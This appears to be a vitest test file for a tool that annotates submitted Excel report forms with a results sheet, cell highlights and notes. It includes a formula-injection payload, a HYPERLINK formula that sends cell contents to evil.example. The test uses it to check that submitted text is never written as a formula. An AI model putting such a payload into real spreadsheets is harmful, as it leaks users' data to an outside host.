import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import ExcelJS from "exceljs";
import type { Cell, CellValue, Comment, Workbook, Worksheet } from "exceljs";
import { beforeAll, describe, expect, it } from "vitest";
import { tempDir } from "../../../test/helpers/temp-dir.js";
import { xmlError } from "../../../test/helpers/well-formed.js";
import { load, partsMatching, sheet } from "../../../test/helpers/xlsx.js";
import { parsePeriod } from "../../domain/period/index.js";
import type { Unit } from "../../domain/unit.js";
import { readWorkspace } from "../../workspace/read.js";
import { writeBlankForm } from "../blank/index.js";
import { SHEETS } from "../../domain/form-contract.js";
import { annotateWorkbook } from "./index.js";
import type { AnnotatedFinding } from "./index.js";
import { CELL_FILLS, ROW_FILLS } from "./mark-cells.js";
import { convertWithLibreOffice } from "../../../test/helpers/libreoffice.js";

const SAMPLES = new URL("../../../samples/hung-yen-2023-h1/", import.meta.url).pathname;
const { config } = readWorkspace(SAMPLES);
const PERIOD = parsePeriod("2023-H1");
const INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';

function cat(): Unit {
  const found = config.units.find((unit) => unit.code === "CAT");
  if (found === undefined) throw new Error("No CAT in the sample");
  return found;
}

function fillOf(cell: Cell): string | undefined {
  const fill = cell.fill as { type?: string; fgColor?: { argb?: string } } | undefined;
  return fill?.type === "pattern" ? fill.fgColor?.argb : undefined;
}

function noteText(cell: Cell): string {
  const note = cell.note as string | Comment | undefined;
  if (note === undefined) return "";
  return typeof note === "string" ? note : (note.texts ?? []).map((text) => text.text).join("");
}

/** Every cell value of every sheet, by "sheet!address". */
function allValues(workbook: Workbook): Map<string, CellValue> {
  const values = new Map<string, CellValue>();
  for (const worksheet of workbook.worksheets) {
    worksheet.eachRow({ includeEmpty: false }, (row) => {
      row.eachCell({ includeEmpty: false }, (cell) => values.set(`${worksheet.name}!${cell.address}`, cell.value));
    });
  }
  return values;
}

function finding(partial: Partial<AnnotatedFinding> & Pick<AnnotatedFinding, "code" | "message">): AnnotatedFinding {
  return {
    severity: "error",
    sheet: null,
    cell: null,
    row: null,
    column: null,
    value: null,
    params: {},
    hint: "",
    ...partial,
  };
}

const FINDINGS: readonly AnnotatedFinding[] = [
  finding({
    code: "value/not-a-number",
    sheet: SHEETS.indicators,
    cell: "D3",
    row: 3,
    column: "Kỳ này",
    value: "abc",
    message: "Ô D3 (Kỳ này): “abc” không phải là số.",
    hint: "Nhập số nguyên không âm, ví dụ 12.",
  }),
  finding({
    severity: "warning",
    code: "date/future",
    sheet: SHEETS.incidents,
    cell: "B2",
    row: 2,
    column: "Ngày phát hiện",
    value: "01/01/2099",
    message: "Ngày phát hiện 01/01/2099 ở sau ngày hôm nay.",
    hint: "Kiểm tra lại năm.",
  }),
  finding({
    code: "incident/duplicate",
    sheet: SHEETS.incidents,
    row: 3,
    message: "Dòng 3 trùng với dòng 2.",
    hint: "Xoá một trong hai dòng.",
  }),
  finding({
    code: "period/mismatch",
    message: "Tệp là báo cáo 2022-H2, không phải 2023-H1.",
    hint: "Gửi lại đúng kỳ.",
  }),
  finding({
    severity: "warning",
    code: "rule/compare",
    sheet: SHEETS.indicators,
    cell: "D3",
    row: 3,
    column: "Kỳ này",
    value: "abc",
    message: "Chỉ tiêu 1.2 lớn hơn chỉ tiêu 1.1.",
    hint: "",
  }),
  finding({
    code: "list/unknown-value",
    sheet: SHEETS.incidents,
    cell: "F2",
    row: 2,
    column: "Mô tả",
    value: INJECTION,
    message: "Giá trị “=1+1” không có trong danh sách.",
    hint: "=1+1",
  }),
];

let form: Buffer;
let annotated: Buffer;
let original: Buffer;

beforeAll(async () => {
  if (PERIOD === null) throw new Error("2023-H1 does not parse");
  const blank = await load(await writeBlankForm({ config, unit: cat(), period: PERIOD }));
  const indicators = sheet(blank, SHEETS.indicators);
  indicators.getCell("D2").value = 5;
  indicators.getCell("D3").value = "abc";
  indicators.getCell("D4").value = { formula: "D2*2", result: 10 };
  indicators.getCell("F2").value = "=1+1";
  const incidents = sheet(blank, SHEETS.incidents);
  incidents.getCell("A2").value = 1;
  incidents.getCell("B2").value = new Date(Date.UTC(2099, 0, 1));
  incidents.getCell("B2").note = "Ghi chú của đơn vị";
  incidents.getCell("F2").value = INJECTION;
  incidents.getCell("A3").value = 2;
  incidents.getCell("F3").value = "Mô tả trùng";
  form = Buffer.from(await blank.xlsx.writeBuffer());
  original = Buffer.from(form);
  annotated = await annotateWorkbook(form, FINDINGS, { lang: "vi", title: "2023-H1-CAT.xlsx" });
});

describe("annotateWorkbook: the results sheet", () => {
  it("is the first, active and only selected tab, before the agency's sheets in their order", async () => {
    const input = await load(form);
    const output = await load(annotated);
    expect(output.worksheets.map((ws) => ws.name)).toEqual([
      "Kết quả kiểm tra",
      ...input.worksheets.map((ws) => ws.name),
    ]);
    expect(output.views[0]).toMatchObject({ activeTab: 0, firstSheet: 0 });
    // exceljs does not read tabSelected back with a frozen pane: look at the XML.
    const sheets = [...partsMatching(annotated, /^xl\/worksheets\/sheet\d+\.xml$/).values()];
    const selected = sheets.filter((xml) => xml.includes('tabSelected="1"'));
    expect(selected).toHaveLength(1);
    expect(selected[0]).toContain('<pane ySplit="2" topLeftCell="A3"');
    expect(sheet(output, SHEETS.lists).state).toBe("hidden");
    expect(sheet(output, SHEETS.meta).state).toBe("veryHidden");
  });

  it("lists every finding under a bold, frozen, filtered header", async () => {
    const results = (await load(annotated)).worksheets[0] as Worksheet;
    expect(results.getCell("A1").value).toBe("2023-H1-CAT.xlsx — 4 lỗi, 2 cảnh báo.");
    const header = results.getRow(2);
    expect(header.values).toEqual([undefined, "STT", "Mức độ", "Trang", "Ô", "Cột", "Giá trị", "Nội dung", "Cách sửa"]);
    expect(header.getCell(1).font?.bold).toBe(true);
    expect(results.views[0]).toMatchObject({ state: "frozen", ySplit: 2 });
    expect(results.autoFilter).toBe("A2:H8");
    expect(results.getCell("G3").alignment?.wrapText).toBe(true);

    const row = (n: number) => [1, 2, 3, 5, 6, 7, 8].map((column) => results.getCell(n, column).value);
    expect(row(3)).toEqual([1, "Lỗi", "Chỉ tiêu", "Kỳ này", "abc", FINDINGS[0]?.message, FINDINGS[0]?.hint]);
    expect(row(4)).toEqual([
      2,
      "Cảnh báo",
      "Vụ việc",
      "Ngày phát hiện",
      "01/01/2099",
      FINDINGS[1]?.message,
      FINDINGS[1]?.hint,
    ]);
    expect(row(5)).toEqual([3, "Lỗi", "Vụ việc", null, null, FINDINGS[2]?.message, FINDINGS[2]?.hint]);
    expect(row(6)).toEqual([4, "Lỗi", null, null, null, FINDINGS[3]?.message, FINDINGS[3]?.hint]);
    expect(results.getCell("D6").value).toBeNull();
    expect(fillOf(results.getCell("B3"))).toBe(CELL_FILLS.error);
    expect(fillOf(results.getCell("B4"))).toBe(CELL_FILLS.warning);
  });

  it("links each address to its cell with a HYPERLINK formula (exceljs's own internal links are broken)", async () => {
    const results = (await load(annotated)).worksheets[0] as Worksheet;
    expect(results.getCell("D3").value).toEqual({ formula: `HYPERLINK("#'Chỉ tiêu'!D3","D3")`, result: "D3" });
    expect(results.getCell("D4").value).toEqual({ formula: `HYPERLINK("#'Vụ việc'!B2","B2")`, result: "B2" });
    expect(results.getCell("D5").value).toEqual({ formula: `HYPERLINK("#'Vụ việc'!A3","Dòng 3")`, result: "Dòng 3" });
  });

  it("writes text from the submission as text, never as a formula", async () => {
    const output = await load(annotated);
    const results = output.worksheets[0] as Worksheet;
    const value = results.getCell("F8");
    expect(value.type).toBe(ExcelJS.ValueType.String);
    expect(value.value).toBe(INJECTION);
    expect(value.formula).toBeUndefined();
    expect(value.numFmt).toBe("@");
    expect(results.getCell("H8").type).toBe(ExcelJS.ValueType.String);
    expect(results.getCell("H8").value).toBe("=1+1");
    expect(sheet(output, SHEETS.incidents).getCell("F2").type).toBe(ExcelJS.ValueType.String);
    // In the XML: only our HYPERLINK(\"#… links are formulas.
    const xml = [...partsMatching(annotated, /^xl\/worksheets\/sheet\d+\.xml$/).values()].join("");
    const formulas = [...xml.matchAll(/<f>([^<]*)<\/f>/g)].map((match) => match[1]);
    expect(formulas.filter((formula) => !formula?.startsWith("HYPERLINK(&quot;#&apos;"))).toEqual(["D2*2"]);
  });

  it("speaks English when asked, and says so when there is nothing to list", async () => {
    const english = await load(await annotateWorkbook(form, FINDINGS.slice(0, 2), { lang: "en" }));
    const results = english.worksheets[0] as Worksheet;
    expect(results.name).toBe("Validation results");
    expect(results.getCell("A1").value).toBe("1 error, 1 warning.");
    expect(results.getRow(2).values).toEqual([
      undefined,
      "No.",
      "Severity",
      "Sheet",
      "Cell",
      "Column",
      "Value",
      "Message",
      "How to fix",
    ]);
    expect(results.getCell("B3").value).toBe("Error");

    const empty = (await load(await annotateWorkbook(form, [], { lang: "vi" }))).worksheets[0] as Worksheet;
    expect(empty.getCell("A1").value).toBe("Không có lỗi hay cảnh báo.");
    expect(empty.autoFilter).toBe("A2:H2");
  });

  it("is first in the package itself: workbook.xml's sheets, the active tab, its print titles, app.xml's titles", async () => {
    const parts = partsMatching(annotated, /^(xl\/workbook\.xml|docProps\/app\.xml)$/);
    const workbookXml = parts.get("xl/workbook.xml") ?? "";
    const sheetNames = [...workbookXml.matchAll(/<sheet\b[^>]*\sname="([^"]*)"/g)].map((match) => match[1]);
    const input = await load(form);
    expect(sheetNames).toEqual(["Kết quả kiểm tra", ...input.worksheets.map((ws) => ws.name)]);
    expect(workbookXml).toMatch(/<workbookView\b[^>]*\sfirstSheet="0" activeTab="0"\/>/);
    expect(workbookXml).toContain(
      '<definedName name="_xlnm.Print_Titles" localSheetId="0">&apos;Kết quả kiểm tra&apos;!$2:$2</definedName>',
    );
    const titles = [...(parts.get("docProps/app.xml") ?? "").matchAll(/<vt:lpstr>([^<]*)<\/vt:lpstr>/g)].map(
      (match) => match[1],
    );
    expect(titles.slice(1)).toEqual(sheetNames);
  });

  it("keeps the agency's print titles and areas on their own sheets, one position further", async () => {
    const workbook = await load(form);
    sheet(workbook, SHEETS.incidents).pageSetup.printTitlesRow = "1:1";
    sheet(workbook, SHEETS.indicators).pageSetup.printArea = "A1:F20";
    const bytes = Buffer.from(await workbook.xlsx.writeBuffer());
    const output = await annotateWorkbook(bytes, FINDINGS, { lang: "vi" });
    const position = (name: string) => workbook.worksheets.findIndex((ws) => ws.name === name) + 1;
    const xml = partsMatching(output, /^xl\/workbook\.xml$/).get("xl/workbook.xml") ?? "";
    expect(xml).toContain(
      `<definedName name="_xlnm.Print_Titles" localSheetId="${position(SHEETS.incidents)}">&apos;${SHEETS.incidents}&apos;!$1:$1</definedName>`,
    );
    // (exceljs writes the area as $A1:$F20.)
    expect(xml).toContain(
      `<definedName name="_xlnm.Print_Area" localSheetId="${position(SHEETS.indicators)}">&apos;${SHEETS.indicators}&apos;!`,
    );
    const copy = await load(output);
    expect(sheet(copy, SHEETS.incidents).pageSetup.printTitlesRow).toBe("1:1");
    expect(sheet(copy, SHEETS.indicators).pageSetup.printArea).toBe("A1:F20");
    expect(copy.worksheets[0]?.pageSetup.printTitlesRow).toBe("2:2");
  });

  it("gets a free name when the workbook already has one (an annotated copy annotated again)", async () => {
    const twice = await load(await annotateWorkbook(annotated, FINDINGS.slice(0, 1), { lang: "vi" }));
    expect(twice.worksheets.slice(0, 2).map((ws) => ws.name)).toEqual(["Kết quả kiểm tra (2)", "Kết quả kiểm tra"]);
    expect(twice.views[0]).toMatchObject({ activeTab: 0 });
    expect(noteText(sheet(twice, SHEETS.indicators).getCell("D3")).match(/không phải là số/g)).toHaveLength(2);
  });
});

describe("annotateWorkbook: the agency's sheets", () => {
  it("fills the offending cell and notes every message on it, without recolouring its look-alikes", async () => {
    const indicators = sheet(await load(annotated), SHEETS.indicators);
    const d3 = indicators.getCell("D3");
    expect(fillOf(d3)).toBe(CELL_FILLS.error);
    expect(d3.border?.top?.style).toBe("thin");
    const note = noteText(d3);
    expect(note).toContain("Lỗi: Ô D3 (Kỳ này): “abc” không phải là số.");
    expect(note).toContain("Cách sửa: Nhập số nguyên không âm, ví dụ 12.");
    expect(note).toContain("Cảnh báo: Chỉ tiêu 1.2 lớn hơn chỉ tiêu 1.1.");
    // D2 and D4 share D3's style in the loaded file: exceljs shares the style object between them.
    expect(fillOf(indicators.getCell("D2"))).toBe("FFFFF2CC");
    expect(fillOf(indicators.getCell("D4"))).toBe("FFFFF2CC");
    expect(indicators.getCell("D2").note).toBeUndefined();
    // The cell keeps the rest of its style.
    expect(d3.numFmt).toBe("#,##0");
    expect(d3.protection?.locked).toBe(false);
  });

  it("appends to a note the agency wrote, and marks a warning in yellow", async () => {
    const b2 = sheet(await load(annotated), SHEETS.incidents).getCell("B2");
    expect(fillOf(b2)).toBe(CELL_FILLS.warning);
    expect(noteText(b2)).toMatch(
      /^Ghi chú của đơn vị\n\nCảnh báo: Ngày phát hiện 01\/01\/2099 ở sau ngày hôm nay\.\nCách sửa: Kiểm tra lại năm\.$/,
    );
  });

  it("tints a whole row for a row finding and notes it on the row's first cell", async () => {
    const incidents = sheet(await load(annotated), SHEETS.incidents);
    expect(fillOf(incidents.getCell("A3"))).toBe(CELL_FILLS.error);
    expect(noteText(incidents.getCell("A3"))).toContain("Lỗi (Dòng 3): Dòng 3 trùng với dòng 2.");
    for (const address of ["B3", "F3", "K3"]) expect(fillOf(incidents.getCell(address))).toBe(ROW_FILLS.error);
    expect(fillOf(incidents.getCell("B4"))).toBeUndefined();
  });

  it("keeps every value and formula of the agency's workbook, and its drop-down lists", async () => {
    const input = await load(form);
    const output = await load(annotated);
    const before = allValues(input);
    const after = allValues(output);
    for (const [key, value] of before) expect(after.get(key), key).toEqual(value);
    const agencyKeys = [...after.keys()].filter((key) => !key.startsWith("Kết quả kiểm tra!"));
    expect(agencyKeys.sort()).toEqual([...before.keys()].sort());
    expect(sheet(output, SHEETS.indicators).getCell("D4").value).toEqual({ formula: "D2*2", result: 10 });
    expect(sheet(output, SHEETS.incidents).getCell("C2").dataValidation).toMatchObject({ type: "list" });
    expect(sheet(output, SHEETS.indicators).getCell("D3").dataValidation).toMatchObject({ type: "whole" });
    expect(sheet(output, SHEETS.incidents).autoFilter).toBe(sheet(input, SHEETS.incidents).autoFilter);
  });

  it("sizes the notes to their text instead of exceljs's fixed 2 × 4 cell box", async () => {
    const vml = [...partsMatching(annotated, /^xl\/drawings\/vmlDrawing\d+\.vml$/).values()].join("");
    const shapes = [
      ...vml.matchAll(/<x:Anchor>([^<]*)<\/x:Anchor>[\s\S]*?<x:Row>(\d+)<\/x:Row>\s*<x:Column>(\d+)<\/x:Column>/g),
    ];
    const d3 = shapes.find((match) => match[2] === "2" && match[3] === "3");
    expect(d3).toBeDefined();
    // exceljs's default for D3 would be "4, 6, 1, 14, 6, 2, 5, 16": columns E–F, rows 2–5.
    expect(d3?.[1]).not.toBe("4, 6, 1, 14, 6, 2, 5, 16");
    const [left, , top, , right, , bottom] = (d3?.[1] ?? "").split(",").map((part) => Number(part.trim()));
    // Right of D3 from a row above, as Excel places a note; E and F are 18 + 30 wide, enough for 48.
    expect([left, top, right]).toEqual([4, 1, 6]);
    // Four lines of text: taller than the default four rows.
    expect(bottom).toBeGreaterThan(5);
  });
});

describe("annotateWorkbook: bytes", () => {
  it("gives byte-identical output for the same input and leaves the input alone", async () => {
    const again = await annotateWorkbook(form, FINDINGS, { lang: "vi", title: "2023-H1-CAT.xlsx" });
    expect(again.equals(annotated)).toBe(true);
    expect(form.equals(original)).toBe(true);
    expect(annotated.equals(form)).toBe(false);
  });

  it("keeps the agency's created and modified dates", async () => {
    const input = await load(form);
    const output = await load(annotated);
    expect(output.created).toEqual(input.created);
    expect(output.modified).toEqual(input.modified);
  });

  it("drops the sheet-local built-in names exceljs would turn global, keeps the agency's own", async () => {
    const workbook = await load(form);
    // As Excel writes for an autofilter (with localSheetId, which exceljs loses on reading).
    workbook.definedNames.add(`'${SHEETS.incidents}'!$A$1:$K$501`, "_xlnm._FilterDatabase");
    workbook.definedNames.add(`'${SHEETS.indicators}'!$D$2:$D$10`, "KyNay");
    const bytes = Buffer.from(await workbook.xlsx.writeBuffer());
    expect(partsMatching(bytes, /^xl\/workbook\.xml$/).get("xl/workbook.xml")).toContain("_xlnm._FilterDatabase");
    const output = await annotateWorkbook(bytes, FINDINGS, { lang: "vi" });
    const xml = partsMatching(output, /^xl\/workbook\.xml$/).get("xl/workbook.xml") ?? "";
    expect(xml).not.toContain("_xlnm._FilterDatabase");
    expect(xml).toContain(`<definedName name="KyNay">&apos;${SHEETS.indicators}&apos;!$D$2:$D$10</definedName>`);
  });

  it("drops data validations exceljs would expand cell by cell (a whole column) instead of hanging", async () => {
    const workbook = await load(form);
    const incidents = sheet(workbook, SHEETS.incidents);
    (
      incidents as Worksheet & { dataValidations: { add(range: string, validation: ExcelJS.DataValidation): void } }
    ).dataValidations.add("L1:L1048576", {
      type: "whole",
      operator: "greaterThanOrEqual",
      formulae: [0],
      allowBlank: true,
    });
    const bytes = Buffer.from(await workbook.xlsx.writeBuffer());
    const input = [...partsMatching(bytes, /^xl\/worksheets\/sheet\d+\.xml$/).values()].join("");
    expect(input).toContain('sqref="L1:L1048576"');
    const started = Date.now();
    const output = await annotateWorkbook(bytes, FINDINGS, { lang: "vi" });
    expect(Date.now() - started).toBeLessThan(20_000);
    const xml = [...partsMatching(output, /^xl\/worksheets\/sheet\d+\.xml$/).values()].join("");
    expect(xml).not.toContain("<dataValidation ");
    expect((await load(output)).worksheets[0]?.name).toBe("Kết quả kiểm tra");
  });
});

const hasSoffice = spawnSync("soffice", ["--version"], { stdio: "ignore" }).status === 0;

describe("LibreOffice", () => {
  function soffice(dir: string, format: string, outDir: string, file: string): void {
    mkdirSync(outDir, { recursive: true });
    convertWithLibreOffice([file], format, outDir, dir);
  }

  it.skipIf(!hasSoffice)("annotates a form LibreOffice re-saved, and prints the annotated copy to PDF", async () => {
    const dir = tempDir();
    mkdirSync(join(dir, "in"));
    writeFileSync(join(dir, "in", "form.xlsx"), form);
    soffice(dir, "xlsx", join(dir, "resaved"), join(dir, "in", "form.xlsx"));
    const resaved = readFileSync(join(dir, "resaved", "form.xlsx"));

    const output = await annotateWorkbook(resaved, FINDINGS, { lang: "vi" });
    const workbook = await load(output);
    expect(workbook.worksheets[0]?.name).toBe("Kết quả kiểm tra");
    expect(noteText(sheet(workbook, SHEETS.indicators).getCell("D3"))).toContain("không phải là số");
    // LibreOffice writes the drop-down lists its own way; they are still small enough to keep.
    expect(sheet(workbook, SHEETS.incidents).getCell("C2").dataValidation).toMatchObject({ type: "list" });

    mkdirSync(join(dir, "annotated"));
    const file = join(dir, "annotated", "form.kiem-tra.xlsx");
    writeFileSync(file, output);
    soffice(dir, "pdf", join(dir, "pdf"), file);
    const pdf = join(dir, "pdf", "form.kiem-tra.pdf");
    expect(existsSync(pdf)).toBe(true);
    expect(statSync(pdf).size).toBeGreaterThan(1000);
    expect(readFileSync(pdf).subarray(0, 5).toString("latin1")).toBe("%PDF-");
  });
});

describe("annotated copy: text XML cannot hold", () => {
  it("is well-formed XML when the received file holds _xFFFE_ (the character U+FFFE) or a literal _xFFFE_", async () => {
    const received = new ExcelJS.Workbook();
    const data = received.addWorksheet("Vụ việc");
    // As written in the file: "_xFFFE_" is U+FFFE to Excel and exceljs; "_x005F_xFFFE_" is the text "_xFFFE_".
    data.getCell("A1").value = "_xFFFE_ và _xFFFF_";
    data.getCell("A2").value = { richText: [{ text: "đậm _xFFFE_", font: { bold: true } }] };
    data.getCell("A3").value = "gõ _x005F_xFFFE_";
    const bytes = Buffer.from(await received.xlsx.writeBuffer());
    const annotated = await annotateWorkbook(bytes, [], { lang: "vi" });
    for (const [name, xml] of partsMatching(annotated, /\.xml$/)) expect(xmlError(xml), name).toBeNull();
    const back = sheet(await load(annotated), "Vụ việc");
    expect(back.getCell("A1").value).toBe("\uFFFD và \uFFFD");
    expect(back.getCell("A2").text).toBe("đậm \uFFFD");
    expect(back.getCell("A3").value).toBe("gõ _xFFFE_");
  });
});
